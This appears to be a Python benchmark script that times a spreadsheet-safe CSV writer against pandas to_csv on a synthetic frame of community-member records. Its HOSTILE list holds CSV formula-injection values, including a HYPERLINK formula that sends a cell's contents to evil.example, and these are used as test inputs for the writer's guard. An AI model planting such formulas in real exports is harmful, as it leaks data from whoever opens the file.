"""Benchmark: the spreadsheet-safe CSV writer against pandas ``to_csv`` of the same frame.

Run ``python -m bench export`` (``--help`` for the options). The frame has the
columns and dtypes of ``libcommunity segment --reveal`` (member pseudonym,
handle, platform, segment, ladder step, 15 counts, two day figures, the
probability of being active, two follower counts with gaps, two booleans),
``--rows`` rows (default 1,000,000) drawn with a fixed seed; one handle in a
thousand is hostile (``=HYPERLINK(...)``, ``+1+1``, ``@SUM(A1)``) and a third of
the handles start with ``@``.

Timed in the same process, alternately, ``--repeat`` times (best run kept):

* ``write_safe_csv`` (this checkout): BOM, ``;`` and decimal comma (Spanish),
  rounding, the formula guard; ``reveal=True`` as ``segment --reveal`` writes
  it (the handles are the point of that file; without ``--reveal`` there is
  no handle column and text cells are searched for contact details);
* pandas ``to_csv`` of the same frame (no guard, no rounding, ``,``): the
  baseline the issue names;
* with ``--compare-with DIR``, the ``write_safe_csv`` of another checkout's
  ``libcommunity/export.py`` (for a before/after figure).

Printed and written to ``bench/results/export.json``; the figures of
docs/performance.md ("Spreadsheet export") come from it.
"""

from __future__ import annotations

import argparse
import importlib.util
import json
import os
import platform
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import pandas as pd

ROOT = Path(__file__).resolve().parents[1]
RESULTS = ROOT / "bench" / "results" / "export.json"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "@SUM(A1)", "-2+3"]
COUNTS = ("ladder_level", "participation", "reactions", "conversation", "amplification", "replies_given",
          "replies_received", "offline", "events", "surveys", "active_days", "active_months")


def member_frame(rows: int, seed: int = 0) -> pd.DataFrame:
    """A frame shaped like ``segment --reveal``'s members (see the module docstring)."""
    rng = np.random.default_rng(seed)
    ids = pd.array([f"m_{v:020x}" for v in rng.integers(0, 2**63, rows)], dtype="string")
    names = rng.integers(0, 10**9, rows)
    at = rng.random(rows) < 1 / 3
    handles = np.where(at, np.char.add("@reader", names.astype(str)), np.char.add("reader-", names.astype(str)))
    handles = handles.astype(object)
    bad = np.flatnonzero(rng.random(rows) < 0.001)
    handles[bad] = [HOSTILE[i % len(HOSTILE)] for i in range(len(bad))]
    active = rng.random(rows) < 0.3
    frame = pd.DataFrame({
        "member": ids,
        "handle": pd.array(handles, dtype="string"),
        "platform": pd.array(rng.choice(["facebook", "instagram", "mastodon"], rows), dtype="string"),
        "segment": pd.array(rng.choice(["silent_follower", "active_participant", "ambassador"], rows, p=[.9, .09, .01]), dtype="string"),
        "ladder_step": pd.array(rng.choice(["observe", "follow", "like_recommend", "contribute", "co_own", "lead"], rows), dtype="string"),
    })
    for c in COUNTS:
        frame[c] = rng.poisson(2.0, rows).astype("int64") * active
    frame["p_active"] = np.where(active, rng.random(rows), np.nan)
    frame["follows"] = rng.random(rows) < 0.8
    frame["new_follower"] = rng.random(rows) < 0.05
    frame["days_since_last_action"] = np.where(active, rng.exponential(40.0, rows), np.nan)
    frame["tenure_days"] = rng.exponential(500.0, rows)
    for c in ("followers", "following"):
        values = pd.array(rng.integers(0, 20000, rows), dtype="Int64")
        values[rng.random(rows) < 0.1] = pd.NA
        frame[c] = values
    return frame


def _previous_writer(checkout: Path):
    spec = importlib.util.spec_from_file_location("previous_export", checkout / "libcommunity" / "export.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.write_safe_csv


def _timed(fn) -> float:
    start = time.perf_counter()
    fn()
    return time.perf_counter() - start


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench export", description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=1_000_000, help="rows of the frame (default: %(default)s)")
    parser.add_argument("--repeat", type=int, default=3, help="runs of each writer (default: %(default)s)")
    parser.add_argument("--compare-with", metavar="DIR", help="also time the writer of this checkout")
    args = parser.parse_args(argv)
    sys.path.insert(0, str(ROOT))
    from libcommunity.export import write_safe_csv

    frame = member_frame(args.rows)
    options = {"lang": "es", "percent": ["p_active"], "decimals": {"days_since_last_action": 1, "tenure_days": 1},
               "reveal": True}
    writers = {
        "write_safe_csv": lambda p: write_safe_csv(frame, p, **options),
        "pandas to_csv": lambda p: frame.to_csv(p, index=False),
    }
    if args.compare_with:
        previous = _previous_writer(Path(args.compare_with))
        writers["previous write_safe_csv"] = lambda p: previous(frame, p)
    times: dict = {name: [] for name in writers}
    sizes = {}
    with tempfile.TemporaryDirectory() as tmp:
        for _ in range(args.repeat):
            for name, write in writers.items():
                path = Path(tmp) / f"{name.replace(' ', '_')}.csv"
                times[name].append(_timed(lambda: write(path)))
                sizes[name] = path.stat().st_size
    best = {name: min(v) for name, v in times.items()}
    base = best["pandas to_csv"]
    rows = {name: {"best_s": round(best[name], 2), "runs_s": [round(t, 2) for t in times[name]],
                   "ratio_to_pandas": round(best[name] / base, 2), "bytes": sizes[name]} for name in writers}
    for name, r in rows.items():
        print(f"{name:<26} best {r['best_s']:>7.2f} s  x{r['ratio_to_pandas']:<6} {r['bytes'] / 1e6:7.1f} MB  runs {r['runs_s']}")
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(json.dumps({
        "rows": args.rows, "columns": frame.shape[1], "python": platform.python_version(), "pandas": pd.__version__,
        "cpus": os.cpu_count(), "load_average": os.getloadavg() if hasattr(os, "getloadavg") else None, "writers": rows,
    }, indent=2) + "\n")
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
